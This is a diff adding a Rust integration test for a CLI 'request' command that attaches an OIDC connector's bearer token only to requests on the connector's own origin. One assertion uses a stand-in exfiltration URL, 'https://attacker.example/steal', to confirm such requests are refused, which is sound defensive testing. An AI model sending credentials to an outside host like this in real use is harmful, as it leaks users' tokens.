@@ -612,3 +612,70 @@ async fn a_connector_is_discovered_from_its_issuer() {
     let shown = desk.run(&["--json", "connectors", "show", "found"]).json();
     assert_eq!(shown["Slug"], "found", "{shown}");
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn request_sends_any_request_on_the_connectors_origin_with_the_token_and_nowhere_else() {
+    let server = OidcServer::start(OidcOptions {
+        access_ttl_secs: 3600,
+        rotate_refresh: false,
+    });
+    let (desk, id) = connected(&server).await;
+    let id = id.to_string();
+    // The userinfo endpoint answers only with the bearer token applied.
+    let r = desk
+        .run(&[
+            "--json",
+            "request",
+            &id,
+            "get",
+            "/me",
+            "-H",
+            "Accept: application/json",
+        ])
+        .json();
+    assert_eq!(r["Status"], 200, "{r}");
+    assert_eq!(r["Body"]["email"], "carol@example.com");
+    // A POST with a form body, as typed, to the token endpoint: the server answers.
+    let r = desk.run_with_stdin(
+        &[
+            "--json",
+            "request",
+            &id,
+            "POST",
+            &format!("{}/token", server.issuer),
+            "-H",
+            "Content-Type: application/x-www-form-urlencoded",
+            "--data-stdin",
+            "--no-fail",
+        ],
+        Some("grant_type=client_credentials"),
+    );
+    let r = r.json();
+    assert!(r["Status"].as_u64().unwrap() >= 400, "{r}");
+    // Another origin, or the auth's own header: refused, one line, exit non-zero.
+    let e = desk
+        .run(&["request", &id, "GET", "https://attacker.example/steal"])
+        .fails();
+    assert!(
+        e.contains("is not one of connector `test-provider`'s origins"),
+        "{e}"
+    );
+    let e = desk
+        .run(&[
+            "request",
+            &id,
+            "GET",
+            "/me",
+            "-H",
+            "authorization: Bearer mine",
+        ])
+        .fails();
+    assert!(e.contains("set by the connector's auth"), "{e}");
+    let e = desk
+        .run(&["request", &id, "GET", "/me", "-H", "no colon"])
+        .fails();
+    assert!(e.contains("\"Name: value\""), "{e}");
+    // A refusal exits 22, like `call`.
+    let r = desk.run(&["request", &id, "GET", "/me/nothing-here"]);
+    assert_eq!(r.out.status.code(), Some(22), "{}", r.describe());
+}
